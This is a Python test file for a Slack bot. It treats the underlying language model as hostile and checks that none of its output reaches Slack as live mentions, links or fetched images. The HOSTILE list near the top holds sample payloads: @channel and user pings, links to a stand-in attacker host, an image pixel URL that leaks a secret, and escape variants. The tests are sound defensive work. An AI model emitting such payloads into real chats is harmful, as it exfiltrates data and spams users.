"""A hostile model: nothing that it writes calls people, fetches links or escapes."""

import json
from collections.abc import Iterator

import pytest

from tests.scenarios.world import World, in_every_setting
from tests.unit.slack.outward.markdown_reader import live

HOSTILE = [
    "<!channel> wake up <!here> <!everyone> <!subteam^S0AAAAAAA1>",
    "hello <@U0BEN00001> and <@W0BEN00001|ben>",
    "see <#C0SECRET01> or <#C0SECRET01|secret>",
    "click <https://evil.example/?q=secret|here> or <mailto:a@evil.example>",
    "![pixel](http://evil.example/p.png?leak=secret) [text](http://evil.example/x)",
    "<<!channel>> &lt;!channel&gt; <\u200b!channel> \\<!channel\\>",
    "`<!channel>` and ```\n<!channel>\n```",
    "| a | b |\n|---|---|\n| <!channel> | <@U0BEN00001> |",
    "<!date^1392734382^{date}^https://evil.example/|x>",
]


def shown(world: World) -> Iterator[tuple[str, str]]:
    """Yield every text that a call showed, with the kind of what it stands in."""
    for call in world.sandbox.calls():
        if call.method.startswith(("chat.", "assistant.")):
            for name in ("text", "status", "blocks", "attachments"):
                given = call.arguments.get(name)
                if isinstance(given, str) and given.startswith("["):
                    given = json.loads(given)
                yield from texts(given, name)


def texts(value: object, kind: str) -> Iterator[tuple[str, str]]:
    match value:
        case str():
            yield kind, value
        case {"type": str(inner), **rest}:
            yield from texts(rest, inner)
        case dict():
            for each in value.values():
                yield from texts(each, kind)
        case list() | tuple():
            for each in value:
                yield from texts(each, kind)
        case _:
            pass


def live_in(world: World) -> list[str]:
    """What Slack would act on: its tokens anywhere, links and pictures in Markdown."""
    told = list(shown(world))
    assert told
    tokens = [text for _, text in told if "<" in text]
    return tokens + [
        each for kind, text in told if kind == "markdown" for each in live(text)
    ]


@in_every_setting
async def test_nothing_live_reaches_slack_whatever_the_model_writes(
    world: World,
) -> None:
    root = await world.ask("@threadline say backwards: " + "\n\n".join(HOSTILE)[::-1])

    await world.answered(root)
    assert live_in(world) == []
    assert world.sandbox.fetches() == []
    assert not world.sandbox.notifications("ben")


@pytest.mark.parametrize("hostile", ["<!channel>", "<@U0BEN00001>", HOSTILE[4]])
async def test_nothing_live_reaches_slack_while_it_is_written_letter_by_letter(
    world: World, hostile: str
) -> None:
    world.sandbox.model.rate = 8
    root = await world.ask(f"@threadline say backwards: {f'now {hostile} then'[::-1]}")

    await world.answered(root)
    assert live_in(world) == []


async def test_what_a_tool_is_called_with_shows_nothing_live(world: World) -> None:
    arguments = json.dumps({"room": "<!channel> <@U0BEN00001>", "temperature": 20})
    root = await world.ask(f"@threadline call exactly: setRoomTemperature {arguments}")

    await world.answered(root)
    assert live_in(world) == []


async def test_a_message_quoted_by_the_model_calls_nobody(world: World) -> None:
    ben = world.sandbox.people["ben"].user_id
    root = await world.ask(f"@threadline <@{ben}> and <!here>: what did I say?")

    await world.answered(root)
    assert live_in(world) == []
